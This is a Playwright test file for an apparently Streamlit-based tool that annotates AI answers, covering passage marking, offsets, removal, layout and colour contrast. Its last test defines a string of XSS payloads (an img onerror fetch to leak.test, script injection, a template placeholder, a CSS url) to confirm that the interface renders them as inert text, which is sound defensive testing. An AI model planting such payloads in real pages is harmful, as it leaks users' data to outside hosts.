"""The transcript in Chromium: marking, reading, removing, layout, hostile words."""

from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.conftest import Open
from tests.browser.harness import samples
from tests.browser.harness.client import Harness

pytestmark = pytest.mark.browser

Json = dict[str, Any]

# Selects from one place in an answer's text to another (UTF-16 units), as dragging would, and lets the mouse go.
SELECT = """(node, [start, end]) => {
  const texts = document.createTreeWalker(node, NodeFilter.SHOW_TEXT);
  const at = (units) => {
    texts.currentNode = node;
    while (texts.nextNode()) {
      if (units <= texts.currentNode.length) return [texts.currentNode, units];
      units -= texts.currentNode.length;
    }
  };
  node.dispatchEvent(new PointerEvent('pointerdown', { bubbles: true, composed: true }));
  document.getSelection().setBaseAndExtent(...at(start), ...at(end));
  node.dispatchEvent(new PointerEvent('pointerup', { bubbles: true, composed: true }));
}"""


def words(page: Page, answer: int = 0) -> Locator:
    return page.locator("article .text").nth(answer)


def popover(page: Page) -> Locator:
    return page.get_by_role("dialog", name="Mark a passage")


def drag(page: Page, text: str, quote: str, answer: int = 0) -> None:
    """Select the quote in an answer; the text is what the answer says."""
    start = len(text[: text.index(quote)].encode("utf-16-le")) // 2
    units = len(quote.encode("utf-16-le")) // 2
    words(page, answer).evaluate(SELECT, [start, start + units])


def select(page: Page, text: str, quote: str, answer: int = 0) -> None:
    drag(page, text, quote, answer)
    expect(popover(page)).to_be_visible()


def choose(page: Page, label: str) -> None:
    popover(page).get_by_role("option", name=label).click()


def test_a_passage_is_marked_with_the_mouse(open_case: Open, harness: Harness, case: str) -> None:
    page = open_case(samples.conversation())
    words(page).hover(position={"x": 2, "y": 12})  # waits until nothing moves any more
    page.mouse.down()
    words(page).hover(position={"x": 200, "y": 12})
    page.mouse.up()
    choose(page, "Warm and plain")
    popover(page).get_by_label("Note (if you like)").fill("Good start.")
    popover(page).get_by_label("What should it have said instead?").fill("Nothing better.")
    page.keyboard.press("Control+Enter")
    [event] = harness.heard(case, "mark")
    assert samples.ANSWER[event["start"] : event["end"]] == event["quote"] != ""
    assert (event["answer"], event["label"]) == ("a0", "Q2")
    assert (event["note"], event["instead"]) == ("Good start.", "Nothing better.")
    expect(popover(page)).to_be_hidden()
    expect(page.get_by_role("list", name="Marks")).to_contain_text("Warm and plain")
    expect(words(page).locator("mark")).to_have_text(event["quote"])


def test_a_passage_is_marked_with_the_keyboard_alone(open_case: Open, harness: Harness, case: str) -> None:
    page = open_case(samples.conversation())
    words(page).focus()
    page.keyboard.press("m")
    expect(popover(page).get_by_role("option")).to_have_count(5)
    page.keyboard.press("j")
    page.keyboard.press("Shift+ArrowDown")
    page.keyboard.press("Enter")
    expect(popover(page).get_by_label("Find a label")).to_be_visible()
    page.keyboard.press("1")
    page.keyboard.type("Rightly asked, and rerun")
    page.keyboard.press("Control+Enter")
    [event] = harness.heard(case, "mark")
    assert event["quote"] == samples.ANSWER[event["start"] : event["end"]]
    assert event["quote"].startswith("That is hard") and event["quote"].endswith("when you lie awake.")
    assert (event["label"], event["note"]) == ("Q1", "Rightly asked, and rerun")
    expect(words(page)).to_be_focused()
    assert harness.tell(case)["runs"] == 2, "single letters in a part must not reach Streamlit's own shortcuts"


def test_letters_search_the_labels(open_case: Open, harness: Harness, case: str) -> None:
    page = open_case(samples.conversation())
    select(page, samples.ANSWER, "try harder")
    page.keyboard.type("dismiss")
    expect(popover(page).get_by_role("option")).to_have_count(1)
    page.keyboard.press("Enter")
    popover(page).get_by_role("button", name="Save").click()
    assert harness.heard(case, "mark")[0]["label"] == "H19"


@pytest.mark.parametrize(
    ("text", "quote"),
    [
        ("Ça va 🙂? Ça ira 👩‍👩‍👧‍👦 demain.", "demain"),
        ("Ça va 🙂? Ça ira 👩‍👩‍👧‍👦 demain.", "🙂? Ça ira 👩‍👩‍👧‍👦"),
        ("هذا صعب، وأنت لست وحدك. 🙂 حاول أن تستريح.", "لست وحدك. 🙂 حاول"),
        ("First line.\n\nSecond 🦊 line.\nThird.", "line.\n\nSecond 🦊 line.\nTh"),
        ("Line one\r\nline two", "one\r\nline"),
    ],
)
def test_offsets_count_code_points(open_case: Open, harness: Harness, case: str, text: str, quote: str) -> None:
    page = open_case(samples.conversation(1, [samples.turn("t", [[samples.answer("a", text)]])]))
    select(page, text, quote)
    choose(page, "Clear limits")
    popover(page).get_by_role("button", name="Save").click()
    [event] = harness.heard(case, "mark")
    assert text[event["start"] : event["end"]] == event["quote"] == quote


def test_marks_may_overlap_and_offsets_stay_right_across_them(open_case: Open, harness: Harness, case: str) -> None:
    page = open_case(samples.conversation(1))
    text = samples.ANSWER
    for number, quote in enumerate(
        ("long. That is hard", "is hard, and it happens", "very long. That is hard, and"), 1
    ):
        select(page, text, quote)
        page.keyboard.press("6")
        popover(page).get_by_role("button", name="Save").click()
        event = harness.heard(case, "mark", number)[-1]
        assert text[event["start"] : event["end"]] == event["quote"] == quote
        expect(page.get_by_role("list", name="Marks").locator("> li")).to_have_count(number)
    expect(words(page)).to_have_js_property("textContent", text)
    expect(words(page).locator("mark[data-depth='3']")).to_have_text("is hard")


def test_what_is_being_written_survives_a_rerun(open_case: Open, harness: Harness, case: str) -> None:
    data = samples.conversation()
    page = open_case(data)
    select(page, samples.ANSWER, "try harder to relax")
    choose(page, "Dismisses, blames or belittles")
    page.keyboard.type("Half a thou")
    first = page.locator("article").first.element_handle()
    runs = harness.tell(case)["runs"]
    changed = samples.turn("t2", [[samples.answer("x0")], [samples.answer("x1")]], "A second message.")
    harness.tell(case, data={**data, "turns": [*data["turns"], changed]})
    page.get_by_role("button", name="Run again").evaluate("node => node.click()")
    expect(page.get_by_text("A second message.")).to_be_visible()
    assert harness.tell(case)["runs"] > runs
    page.keyboard.type("ght")
    note = popover(page).get_by_label("Note (if you like)")
    expect(note).to_have_value("Half a thought")
    expect(note).to_be_focused()
    expect(words(page).locator("mark.chosen")).to_have_text("try harder to relax")
    assert first and first.evaluate("node => node.isConnected"), "the answer was rebuilt"


def test_escape_asks_before_it_throws_words_away(open_case: Open) -> None:
    page = open_case(samples.conversation())
    select(page, samples.ANSWER, "try harder")
    page.keyboard.press("Escape")
    expect(popover(page)).to_be_hidden()
    select(page, samples.ANSWER, "try harder")
    page.keyboard.press("2")
    page.keyboard.type("Something")
    page.keyboard.press("Escape")
    expect(popover(page)).to_contain_text("Esc once more")
    page.keyboard.press("Escape")
    expect(popover(page)).to_be_hidden()
    expect(words(page).locator("mark")).to_have_count(0)


def test_the_popover_stays_in_view(open_case: Open) -> None:
    page = open_case(samples.conversation(6), width=900, height=640)
    for column in (0, 5):
        words(page, column).scroll_into_view_if_needed()
        select(page, samples.ANSWER, "tonight", column)
        box = popover(page).bounding_box()
        assert box and box["x"] >= 0 and box["x"] + box["width"] <= 900
        assert box["y"] >= 0 and box["y"] + box["height"] <= 640
        page.keyboard.press("Escape")


def test_an_impression_and_its_reason(open_case: Open, harness: Harness, case: str) -> None:
    page = open_case(samples.conversation())
    page.get_by_role("button", name="How does it feel?, column B").click()
    expect(page.get_by_role("button", name="Save")).to_be_disabled()
    page.get_by_role("button", name="Worries me").click()
    expect(page.get_by_role("button", pressed=True)).to_have_text("Worries me")
    page.get_by_label("Why (if you like)").fill("Cold.")
    page.get_by_role("button", name="Save").click()
    [event] = harness.heard(case, "impression")
    assert (event["answer"], event["feeling"], event["reason"]) == ("a1", "worries_me", "Cold.")


def test_removing_asks_first(open_case: Open, harness: Harness, case: str) -> None:
    text = samples.ANSWER
    marks = [samples.mark("m1", text, "try harder", "H19", note="Blames.", mine=True)]
    page = open_case(samples.conversation(1, [samples.turn("t1", [[samples.answer("a0", marks=marks)]])]))
    asked = [("Remove, message 1", "turn", "t1"), ("Remove, column A", "answer", "a0"), ("Remove note", "note", "m1")]
    for number, (name, what, id) in enumerate(asked, 1):
        opener = page.get_by_role("button", name=name)
        opener.click()
        expect(page.get_by_text("Remove this text? It cannot be brought back.")).to_be_visible()
        page.get_by_role("button", name="Keep").click()
        expect(opener).to_be_focused()
        opener.click()
        page.get_by_role("button", name="Remove", exact=True).click()
        event = harness.heard(case, "remove", number)[-1]
        assert (event["what"], event["id"]) == (what, id)
    page.get_by_role("button", name="Take back").click()
    assert harness.heard(case, "unmark")[0]["mark"] == "m1"


def test_removed_words_leave_a_dated_note(open_case: Open) -> None:
    gone = samples.answer("a0", None, removed_note="Removed on 23 November 2026.")
    turn = {**samples.turn("t1", [[gone]], None), "removed_note": "Message removed on 23 November 2026."}
    page = open_case(samples.conversation(1, [turn]))
    expect(page.get_by_text("Removed on 23 November 2026.", exact=True)).to_be_visible()
    expect(page.get_by_text("Message removed on 23 November 2026.")).to_be_visible()
    expect(page.get_by_role("button", name="Mark, column A")).to_have_count(0)


def test_a_failed_column_says_why_and_offers_a_way_on(open_case: Open, harness: Harness, case: str) -> None:
    page = open_case(samples.conversation(2, [samples.turn("t1", [[samples.answer("a")], [samples.failed("b")]])]))
    expect(page.get_by_text("Your message and the other answers are saved.")).to_be_visible()
    expect(page.get_by_text("too many requests")).to_be_hidden()
    page.get_by_text("What the provider said").click()
    expect(page.get_by_text("too many requests")).to_be_visible()
    page.get_by_role("button", name="Try again").click()
    event = harness.heard(case, "try_again")[0]
    assert (event["turn"], event["column"]) == ("t1", "col1")
    page.get_by_role("button", name="Leave out").click()
    assert harness.heard(case, "leave_out")[0]["column"] == "col1"


def test_answering_again_never_hides_the_first(open_case: Open, harness: Harness, case: str) -> None:
    data = samples.conversation(1)
    page = open_case(data)
    page.get_by_role("button", name="Answer again").click()
    assert harness.heard(case, "regenerate")[0]["turn"] == "t1"
    answers = [samples.answer("a0", of=2), samples.running("a1", "The second", n=2, of=2)]
    harness.tell(case, data={**data, "turns": [samples.turn("t1", [answers])]})
    page.get_by_role("button", name="Run again").click()
    expect(page.get_by_text("answer 2 of 2")).to_be_visible()
    expect(page.get_by_text("The second")).to_be_visible()
    page.get_by_role("button", name="Earlier answer").click()
    expect(page.get_by_text("answer 1 of 2")).to_be_visible()
    expect(page.get_by_text("It sounds as if")).to_be_visible()
    answers[1] = samples.answer("a1", "The second, whole.", n=2, of=2)
    harness.tell(case, data={**data, "turns": [samples.turn("t1", [answers])]})
    page.reload()
    expect(page.get_by_text("answer 1 of 2")).to_be_visible()


def test_nothing_can_be_changed_when_it_may_only_be_read(open_case: Open) -> None:
    page = open_case(samples.conversation(readonly=True))
    expect(words(page)).to_contain_text("It sounds as if")
    expect(page.locator("article button")).to_have_count(0)
    drag(page, samples.ANSWER, "try harder")
    words(page).focus()
    page.keyboard.press("m")
    page.wait_for_timeout(100)
    expect(popover(page)).to_be_hidden()


def test_turns_are_walked_with_j_and_k(open_case: Open) -> None:
    turns = [samples.turn(f"t{n}", [[samples.answer(f"a{n}")], [samples.answer(f"b{n}")]]) for n in range(3)]
    page = open_case(samples.conversation(2, turns))
    words(page, 1).focus()
    page.keyboard.press("j")
    page.keyboard.press("j")
    expect(words(page, 5)).to_be_focused()
    page.keyboard.press("k")
    expect(words(page, 3)).to_be_focused()


def boxes(page: Page, selector: str) -> list[dict[str, float]]:
    found = page.locator(selector).evaluate_all(
        "nodes => nodes.filter(n => n.checkVisibility()).map(n => n.getBoundingClientRect().toJSON())"
    )
    return list(found)


def overlapping(first: dict[str, float], second: dict[str, float]) -> bool:
    across = min(first["right"], second["right"]) - max(first["left"], second["left"])
    down = min(first["bottom"], second["bottom"]) - max(first["top"], second["top"])
    return across > 1 and down > 1


@pytest.mark.parametrize("width", [900, 1440])
def test_six_columns_do_not_overlap(open_case: Open, width: int) -> None:
    page = open_case(samples.conversation(6), width=width)
    for selector in ("header.card", ".cell", "article .actions button", ".jumps button"):
        found = boxes(page, selector)
        assert len(found) >= 6
        assert not any(overlapping(one, two) for i, one in enumerate(found) for two in found[:i]), selector
    assert page.evaluate("document.documentElement.scrollWidth") <= width, "the page itself must not scroll sideways"
    page.get_by_role("button", name="Go to column F").click()
    expect(page.locator("header.card").nth(5)).to_be_in_viewport(ratio=1)
    expect(page.get_by_text("I can't sleep before exams.")).to_be_in_viewport(ratio=1)


def test_buttons_are_large_enough_to_hit(open_case: Open) -> None:
    turns = [samples.turn("t1", [[samples.answer("a")], [samples.failed("b")]])]
    page = open_case(samples.conversation(2, turns))
    select(page, samples.ANSWER, "try harder")
    small = [box for box in boxes(page, ".part button, .part summary, .part [role=option]") if box["height"] < 32]
    assert not small


# WCAG 2.2 contrast of every visible text in the part against the first opaque ground behind it.
CONTRAST = """root => {
  const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
  const rgb = (color, over) => {
    canvas.clearRect(0, 0, 1, 1);
    if (over) { canvas.fillStyle = over; canvas.fillRect(0, 0, 1, 1); }
    canvas.fillStyle = color;
    canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data];
  };
  const linear = (v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
  const light = (color) => [0.2126, 0.7152, 0.0722].reduce((sum, share, i) => sum + share * linear(color[i] / 255), 0);
  const up = (node) => node.parentElement ?? node.getRootNode().host;
  const ground = (node) => {
    const layers = [];
    for (let at = node; at; at = up(at)) {
      const color = getComputedStyle(at).backgroundColor;
      layers.push(color);
      if (rgb(color)[3] === 255) break;
    }
    return layers.reverse().reduce((under, layer) => `rgb(${rgb(layer, under).slice(0, 3)})`, '#fff');
  };
  const bad = [];
  for (const node of root.querySelectorAll('*')) {
    const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim());
    if (!own || !node.checkVisibility({ opacityProperty: true }) || node.disabled) continue;
    const back = ground(node);
    const [a, b] = [light(rgb(getComputedStyle(node).color, back)), light(rgb(back))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) bad.push(`${node.className} "${node.textContent.slice(0, 30)}" ${ratio.toFixed(2)}`);
  }
  return bad;
}"""


@pytest.mark.parametrize("dark", [False, True])
def test_words_are_legible_in_light_and_dark(open_case: Open, dark: bool) -> None:
    text = samples.ANSWER
    quotes = ("It sounds as if", "You could tell me", "try harder", "one small thing")
    marks = [
        samples.mark(c, text, q, c, note="A note.") for c, q in zip(("Q1", "m4", "H19", "H12"), quotes, strict=True)
    ]
    turns = [samples.turn("t1", [[samples.answer("a", marks=marks)], [samples.failed("b")], [samples.answer("c")]])]
    page = open_case(samples.conversation(3, turns), dark=dark)
    select(page, text, "tonight", 2)
    assert page.locator(".part").evaluate(CONTRAST) == []
    page.keyboard.press("1")
    assert page.locator(".part").evaluate(CONTRAST) == []


HOSTILE = (
    '<img src=x onerror="fetch(`http://leak.test/`)"> ![p](http://leak.test/p) </script><script>leak()</script> {{x}}'
)


def hostile_conversation() -> Json:
    mark = {**samples.mark("m", samples.ANSWER, "It sounds", "H1"), "start": 0, "end": 30, "id": HOSTILE}
    mark |= dict.fromkeys(("name", "note", "instead", "by"), HOSTILE)
    impression = {"feeling": "fine", "reason": HOSTILE, "id": HOSTILE}
    told = samples.answer("a", HOSTILE, line=HOSTILE, marks=[mark], impression=impression)
    gone = samples.answer("b", None, removed_note=HOSTILE)
    broken = {**samples.failed("c"), "sentence": HOSTILE, "detail": HOSTILE}
    names = dict.fromkeys(("title", "model", "settings", "note", "waking"), HOSTILE)
    columns = [samples.column(i, **names, color="url(http://leak.test/c)") for i in range(3)]
    turns = [samples.turn(HOSTILE, [[told], [gone], [broken]], HOSTILE)]
    labels = [{"code": HOSTILE, "name": HOSTILE, "tone": "critical"}, *samples.LABELS]
    return {**samples.conversation(3, turns, labels=labels), "columns": columns}


def test_hostile_words_stay_words(open_case: Open, harness: Harness, case: str) -> None:
    page = open_case(hostile_conversation())
    select(page, HOSTILE, "onerror")
    expect(popover(page)).to_contain_text("<img src=x")
    page.keyboard.press("6")
    page.keyboard.type(HOSTILE)
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("list", name="Marks").locator("> li")).to_have_count(2)
    assert harness.heard(case, "mark")[0]["quote"] == "onerror"
    assert page.locator(".part :is(img, script, iframe, a, link)").count() == 0
    for place in ("h3", ".person .words", ".practice", ".problem p", ".line", ".felt + .words"):
        expect(page.locator(".part").locator(place).first).to_have_text(HOSTILE)
